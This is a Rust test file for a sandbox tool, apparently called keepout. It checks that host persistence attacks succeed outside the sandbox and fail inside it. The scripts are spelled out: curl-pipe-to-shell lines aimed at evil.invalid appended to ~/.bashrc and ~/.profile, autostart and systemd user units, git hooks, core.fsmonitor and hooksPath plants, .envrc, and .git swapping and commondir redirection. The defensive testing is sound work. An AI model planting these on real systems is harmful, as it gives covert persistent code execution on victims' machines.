//! A4: persistence on the host: planting code that the victim's own account runs later, in the
//! home (shell rc files, autostart, systemd user units) and in the project (git hooks, git
//! config, git attributes, direnv's .envrc, swapping .git itself).

use std::path::Path;

use super::harness::*;

fn has_line(out: &Output, line: &str) -> bool {
    out.stdout.lines().any(|l| l == line)
}

/// Files of the fake home the attack touches: (path relative to home, created by the attack).
const HOME_TARGETS: &[(&str, bool)] = &[
    (".bashrc", false),
    (".profile", false),
    (".config/autostart/x.desktop", true),
    (".config/systemd/user/x.service", true),
];

fn home_attack(fx: &Fixture, pwned: &str) -> String {
    let h = |rel: &str| q(fx.home_path(rel));
    format!(
        "echo 'curl https://evil.invalid/{pwned} | sh' >> {bashrc}; echo \"bashrc=$?\"
echo 'curl https://evil.invalid/{pwned} | sh' >> {profile}; echo \"profile=$?\"
mkdir -p {autostart_dir} && printf '[Desktop Entry]\\nExec=sh -c {pwned}\\n' > {autostart}; echo \"autostart=$?\"
mkdir -p {systemd_dir} && printf '[Service]\\nExecStart=/bin/sh -c {pwned}\\n' > {service}; echo \"systemd=$?\"
true",
        bashrc = h(".bashrc"),
        profile = h(".profile"),
        autostart_dir = h(".config/autostart"),
        autostart = h(".config/autostart/x.desktop"),
        systemd_dir = h(".config/systemd/user"),
        service = h(".config/systemd/user/x.service"),
    )
}

/// Appending to ~/.bashrc and ~/.profile, creating an autostart entry and a systemd user unit:
/// works outside; inside, the host's files are unchanged afterwards.
#[test]
fn home_startup_files_unchanged() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let pwned = format!("PWNED-{}", fx.rand);
        let script = home_attack(&fx, &pwned);
        let before: Vec<Option<String>> = HOME_TARGETS
            .iter()
            .map(|(rel, _)| read(&fx.home.join(rel)))
            .collect();

        let out = fx.outside(&script);
        for (rel, _) in HOME_TARGETS {
            assert!(
                read(&fx.home.join(rel)).is_some_and(|c| c.contains(&pwned)),
                "[{r}] outside: planting in ~/{rel} works (proves the attack):{out}"
            );
        }
        // Restore the fixture.
        for ((rel, created), old) in HOME_TARGETS.iter().zip(&before) {
            let p = fx.home.join(rel);
            if *created {
                std::fs::remove_file(&p).unwrap();
            } else {
                std::fs::write(&p, old.as_ref().unwrap()).unwrap();
            }
        }
        let _ = std::fs::remove_dir_all(fx.home.join(".config/autostart"));
        let _ = std::fs::remove_dir_all(fx.home.join(".config/systemd"));

        let inn = fx.inside(&[], &script);
        assert!(
            inn.stdout.contains("systemd="),
            "[{r}] inside: the attack ran:{inn}"
        );
        for ((rel, _), old) in HOME_TARGETS.iter().zip(&before) {
            assert_eq!(
                &read(&fx.home.join(rel)),
                old,
                "[{r}] inside: the host's ~/{rel} must be unchanged:{inn}"
            );
        }
        assert!(
            !fx.home.join(".config/autostart").exists()
                && !fx.home.join(".config/systemd").exists(),
            "[{r}] inside: no autostart or systemd directory appears in the host's home:{inn}"
        );
    }
}

/// The project's files git and direnv run code from: what the attack writes.
fn project_attack(pwned: &str, hooks_path: &str) -> String {
    format!(
        "printf '#!/bin/sh\\necho {pwned}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; echo \"hook=$?\"
printf '[core]\\n\\tfsmonitor = echo {pwned}\\n' >> .git/config; echo \"append=$?\"
git config core.hooksPath {hooks}; echo \"gitconfig=$?\"
echo '* filter={pwned}' > .git/info/attributes; echo \"attributes=$?\"
echo 'echo {pwned}' > .envrc; echo \"envrc=$?\"
true",
        hooks = q(hooks_path),
    )
}

/// Writing .git/hooks/pre-commit, appending to .git/config (directly and with `git config`),
/// writing .git/info/attributes and creating .envrc: works outside; inside the writes fail,
/// and a created .envrc is moved aside (quarantined) when the run ends.
#[test]
fn git_hooks_config_and_envrc_protected() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let pwned = format!("PWNED-{}", fx.rand);
        let hooks_path = fx.root.join("evil-hooks").display().to_string();
        let script = project_attack(&pwned, &hooks_path);
        let p = |rel: &str| fx.project.join(rel);
        let config_before = read(&p(".git/config")).expect(".git/config exists");
        assert!(p(".git/info").is_dir(), "[{r}] git init made .git/info");

        let out = fx.outside(&script);
        for line in [
            "hook=0",
            "append=0",
            "gitconfig=0",
            "attributes=0",
            "envrc=0",
        ] {
            assert!(
                has_line(&out, line),
                "[{r}] outside: {line} (proves the attack):{out}"
            );
        }
        assert!(read(&p(".git/hooks/pre-commit")).is_some_and(|c| c.contains(&pwned)));
        assert!(
            read(&p(".git/config")).is_some_and(|c| c.contains(&pwned) && c.contains("hooksPath"))
        );
        assert!(read(&p(".git/info/attributes")).is_some_and(|c| c.contains(&pwned)));
        assert!(read(&p(".envrc")).is_some_and(|c| c.contains(&pwned)));
        // Restore the fixture.
        std::fs::remove_file(p(".git/hooks/pre-commit")).unwrap();
        std::fs::write(p(".git/config"), &config_before).unwrap();
        std::fs::remove_file(p(".git/info/attributes")).unwrap();
        std::fs::remove_file(p(".envrc")).unwrap();

        let inn = fx.inside(&[], &script);
        for line in ["hook=0", "append=0", "gitconfig=0", "attributes=0"] {
            let label = line.trim_end_matches('0');
            assert!(
                !has_line(&inn, line) && inn.stdout.lines().any(|l| l.starts_with(label)),
                "[{r}] inside: the write must fail ({line} must not appear):{inn}"
            );
        }
        assert!(
            !p(".git/hooks/pre-commit").exists(),
            "[{r}] inside: no pre-commit hook on the host:{inn}"
        );
        assert_eq!(
            read(&p(".git/config")).as_deref(),
            Some(config_before.as_str()),
            "[{r}] inside: .git/config must be unchanged:{inn}"
        );
        assert!(
            !p(".git/info/attributes").exists(),
            "[{r}] inside: no .git/info/attributes on the host:{inn}"
        );
        assert!(
            !p(".envrc").exists(),
            "[{r}] inside: a planted .envrc must not be left in place:{inn}"
        );
        let quarantined: Vec<String> = std::fs::read_dir(&fx.project)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".envrc.keepout-quarantine-"))
            .collect();
        assert!(
            quarantined.len() == 1
                && read(&fx.project.join(&quarantined[0])).is_some_and(|c| c.contains(&pwned)),
            "[{r}] the planted .envrc is moved to .envrc.keepout-quarantine-* (found {quarantined:?}):{inn}"
        );
        assert!(
            inn.stderr.contains(".envrc"),
            "[{r}] keepout says it moved .envrc aside:{inn}"
        );
    }
}

/// The rename trick: `mv .git .git-old && mkdir .git` (then a planted config) works outside;
/// inside it fails because .git is a mount point, and the host's .git is untouched. Same for
/// renaming .git/hooks away.
#[test]
fn git_dir_cannot_be_swapped() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let pwned = format!("PWNED-{}", fx.rand);
        let config = fx.project.join(".git/config");
        let config_before = read(&config).unwrap();
        let swap = format!(
            "mv .git .git-old && mkdir .git && printf '[core]\\n\\thooksPath = /tmp/{pwned}\\n' > .git/config; echo \"swap=$?\""
        );

        let out = fx.outside(&swap);
        assert!(
            has_line(&out, "swap=0") && read(&config).is_some_and(|c| c.contains(&pwned)),
            "[{r}] outside: swapping .git works (proves the attack):{out}"
        );
        // Restore the fixture.
        std::fs::remove_dir_all(fx.project.join(".git")).unwrap();
        std::fs::rename(fx.project.join(".git-old"), fx.project.join(".git")).unwrap();
        assert_eq!(read(&config).as_deref(), Some(config_before.as_str()));

        let inn = fx.inside(&[], &swap);
        assert!(
            !has_line(&inn, "swap=0") && inn.stdout.contains("swap="),
            "[{r}] inside: mv .git must fail (.git is a mount point):{inn}"
        );
        assert_eq!(
            read(&config).as_deref(),
            Some(config_before.as_str()),
            "[{r}] inside: the host's .git/config is still the original:{inn}"
        );
        assert!(
            !fx.project.join(".git-old").exists(),
            "[{r}] inside: nothing was renamed on the host:{inn}"
        );

        let hooks = "mv .git/hooks .git/hooks-old && mkdir .git/hooks; echo \"hooks=$?\"";
        let inn = fx.inside(&[], hooks);
        assert!(
            !has_line(&inn, "hooks=0") && inn.stdout.contains("hooks="),
            "[{r}] inside: renaming .git/hooks away must fail:{inn}"
        );
        assert!(
            Path::new(&fx.project.join(".git/hooks")).is_dir()
                && !fx.project.join(".git/hooks-old").exists(),
            "[{r}] inside: the host's .git/hooks is untouched:{inn}"
        );
    }
}

/// Redirecting git's common directory: `.git/commondir` names the directory git reads `config`
/// and `hooks` from. The attack builds a copy of the repository in the (writable) project with
/// a planted `core.fsmonitor` and points `.git/commondir` at it; the maintainer's next
/// `git status` on the host runs the planted command. Works outside; inside, the host's git must
/// not run it afterwards.
#[test]
fn git_commondir_cannot_redirect_config() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let pwned = format!("PWNED-{}", fx.rand);
        let attack = format!(
            "mkdir -p .cache-build && cp -R .git/objects .git/refs .git/HEAD .cache-build/ \
             && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"echo {pwned} >&2; false\"\\n' > .cache-build/config \
             && echo ../.cache-build > .git/commondir; echo \"commondir=$?\""
        );
        let victim = "git status --short; echo \"status=$?\"";

        let out = fx.outside(&attack);
        assert!(
            has_line(&out, "commondir=0"),
            "[{r}] outside: the attack runs:{out}"
        );
        let later = fx.outside(victim);
        assert!(
            later.has(&pwned),
            "[{r}] outside: the host's git runs the planted fsmonitor (proves the attack):{later}"
        );
        // Restore the fixture.
        std::fs::remove_file(fx.project.join(".git/commondir")).unwrap();
        std::fs::remove_dir_all(fx.project.join(".cache-build")).unwrap();
        let clean = fx.outside(victim);
        assert!(!clean.has(&pwned), "[{r}] the fixture is restored:{clean}");

        let inn = fx.inside(&[], &attack);
        assert!(
            inn.stdout.contains("commondir="),
            "[{r}] inside: the attack ran:{inn}"
        );
        let later = fx.outside(victim);
        assert!(
            !later.has(&pwned),
            "[{r}] inside: after the run, the host's git must not run code planted through \
             .git/commondir (inside run:{inn}\n host git status afterwards:{later}"
        );
    }
}

/// A nested repository: the attack creates `src/.git` (a copy of the repository with a planted
/// `core.fsmonitor`) in the writable project. Git run in `src/` (a shell prompt showing the git
/// status is enough) discovers `src/.git` first and runs the planted command. Works outside;
/// after a run inside, the host's git in `src/` must not run it (keepout can move a `.git` that
/// the run created aside, as it does for `.envrc`).
#[test]
fn nested_git_repository_cannot_plant_config() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let pwned = format!("PWNED-{}", fx.rand);
        let attack = format!(
            "mkdir -p src && cp -R .git src/.git && rm -f src/.git/config \
             && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"echo {pwned} >&2; false\"\\n' > src/.git/config; \
             echo \"nested=$?\""
        );
        let victim = "cd src && git status --short; echo \"status=$?\"";

        let out = fx.outside(&attack);
        assert!(
            has_line(&out, "nested=0"),
            "[{r}] outside: the attack runs:{out}"
        );
        let later = fx.outside(victim);
        assert!(
            later.has(&pwned),
            "[{r}] outside: git in src/ runs the planted fsmonitor (proves the attack):{later}"
        );
        // Restore the fixture.
        std::fs::remove_dir_all(fx.project.join("src")).unwrap();

        let inn = fx.inside(&[], &attack);
        assert!(
            inn.stdout.contains("nested="),
            "[{r}] inside: the attack ran:{inn}"
        );
        let later = fx.outside(victim);
        assert!(
            !later.has(&pwned),
            "[{r}] inside: after the run, the host's git in src/ must not run code planted in a \
             nested .git (inside run:{inn}\n host git status afterwards:{later}"
        );
    }
}
